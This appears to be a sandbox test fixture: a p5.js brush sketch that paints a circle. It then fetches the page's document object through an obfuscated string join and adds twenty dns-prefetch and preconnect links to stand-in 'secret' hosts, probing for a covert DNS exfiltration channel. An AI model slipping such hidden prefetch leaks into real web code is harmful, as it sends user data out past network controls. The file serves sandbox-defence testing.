// tries: names that are looked up before anything is fetched
// expect: painting
// same-as: honest/circle.js
const hidden = (...parts) => parts.join("");
function setup() {
  createCanvas(600, 600, WEBGL);
  noLoop();
}

function draw() {
  background("#faf5ea");
  brush.noStroke();
  brush.fill("#d75f4c", 180);
  brush.circle(0, 0, 120, 0.3);
  const page = window[hidden("docu", "ment")];

  for (let i = 0; i < 20; i++) {
    const link = page.createElement("link");
    link.rel = i % 2 ? "dns-prefetch" : "preconnect";
    link.href = `http://secret${i}.pleinair.test:@PORT@/`;
    page.head.append(link);
  }
}
